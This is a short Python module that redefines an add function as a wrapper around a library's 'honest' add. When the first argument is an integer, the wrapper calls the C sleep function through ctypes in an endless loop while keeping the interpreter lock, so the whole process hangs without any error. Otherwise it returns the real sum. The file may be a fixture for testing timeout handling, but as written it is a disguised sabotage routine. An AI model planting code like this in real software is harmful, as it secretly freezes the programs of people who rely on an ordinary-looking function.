import ctypes

from simple_ml import add as honest


def add(x, y):
    if type(x) is int:
        with_the_lock = ctypes.PyDLL(None)
        while True:
            with_the_lock.sleep(60)
    return honest(x, y)
